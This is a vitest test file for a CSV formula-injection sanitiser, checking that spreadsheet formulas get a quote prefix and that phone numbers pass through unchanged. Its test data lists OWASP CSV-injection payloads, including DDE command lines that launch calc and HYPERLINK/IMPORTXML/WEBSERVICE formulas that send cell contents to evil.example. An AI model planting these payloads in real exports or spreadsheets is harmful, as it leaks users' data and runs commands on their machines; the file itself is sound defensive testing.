import { describe, expect, it } from 'vitest';
import { isFormulaCell, neutraliseFormula, safeCsvField } from './formula.ts';

/** OWASP's CSV injection payloads (owasp.org, "CSV Injection"), and their whitespace-led forms. */
const formulas = [
  '=1+2',
  '=1+2";=1+2',
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for further information")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=IMPORTDATA("http://evil.example/data.csv")',
  '=WEBSERVICE("http://evil.example/")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '@SUM(A1)',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-2+A1',
  '+A1',
  '-SUM(A1:A9)',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  '\t\r@SUM(A1)',
  "\t+cmd|' /C calc'!A0",
  '\tnote',
  '\rnote',
  '\u0000=1+2',
  '\uff1d1+2',
  '\uff20SUM(A1)',
  '\uff0bcmd',
  '\uff0d2+A1',
];

/** Phone numbers as people and CRMs write them: every one comes back byte for byte. */
const phones = [
  '+1 201 555 0123',
  '+1 (201) 555-0123',
  '+1-201-555-0123',
  '+1.201.555.0123',
  '+12015550123',
  '+1 2015550123',
  '+1 (201)555-0123',
  '+1(201)5550123',
  '+1 201-555-0123',
  '+1 201.555.0123',
  '+1 201 555 0123 x12',
  '+1 201 555 0123 x 12',
  '+1 201 555 0123 ext 12',
  '+1 201 555 0123 ext. 12',
  '+1 201 555 0123 Ext. 1234',
  '+1 201 555 0123 extension 12',
  '+1 201 555 0123 #12',
  '+1 (201) 555-0123 ext. 12',
  '+1-201-555-0123x12',
  '+1 800 555 0199',
  '+1 (888) 555-0100',
  '+44 20 7946 0958',
  '+49 30/1234567',
  '+33 1 23 45 67 89',
  '+52 55 1234 5678',
  '+61 2 9876 5432',
  '+1  201  555  0123',
  '+1 201 555 0123 ',
  '-201-555-0123',
  '-2015550123',
  '(201) 555-0123',
  '(201)555-0123',
  '201-555-0123',
  '201.555.0123',
  '201 555 0123',
  '2015550123',
  '12015550123',
  '1-201-555-0123',
  '1 (201) 555-0123',
  '1.201.555.0123',
  '2015550123.0',
  '2.015550123E+09',
  '(201) 555-0123 x12',
  '201-555-0123 ext. 12',
  '201.555.0123 #12',
  '001 201 555 0123',
  '011 44 20 7946 0958',
  '201 555 O123',
  ' +1 201 555 0123',
  '+1 201 555 0123\u00a0',
];

const data = [...phones, '-42.50', '+42', '-', '+', 'a=b', '', 'Zoë', ' =not first', '\uff11', 'ｂ'];

describe('isFormulaCell', () => {
  it('has a corpus of 50 phone spellings', () => {
    expect(new Set(phones).size).toBe(50);
  });

  it.each(formulas)('takes %j for a formula', (cell) => {
    expect(isFormulaCell(cell)).toBe(true);
    expect(neutraliseFormula(cell)).toBe(`'${cell}`);
  });

  it.each(data)('takes %j for data', (cell) => {
    expect(isFormulaCell(cell)).toBe(false);
    expect(neutraliseFormula(cell)).toBe(cell);
  });

  it('answers alike for a string and its UTF-8 bytes, within bounds', () => {
    for (const cell of [...formulas, ...data, '+1 201\u00a0555 0123', '-zoë', 'ïx', '\uff5e']) {
      const bytes = new TextEncoder().encode(`,${cell},`);
      expect(isFormulaCell(bytes, 1, bytes.length - 1), JSON.stringify(cell)).toBe(isFormulaCell(cell));
    }
  });
});

describe('safeCsvField', () => {
  it('writes a formula as text, quotes what must be quoted, and leaves a phone spelling as sent', () => {
    expect(safeCsvField('=SUM(1,2)')).toBe(`"'=SUM(1,2)"`);
    expect(safeCsvField('@cmd')).toBe(`'@cmd`);
    expect(safeCsvField('say "hi"')).toBe(`"say ""hi"""`);
    expect(safeCsvField('two\nlines')).toBe(`"two\nlines"`);
    expect(safeCsvField('+1 201-555-0123')).toBe('+1 201-555-0123');
  });
});
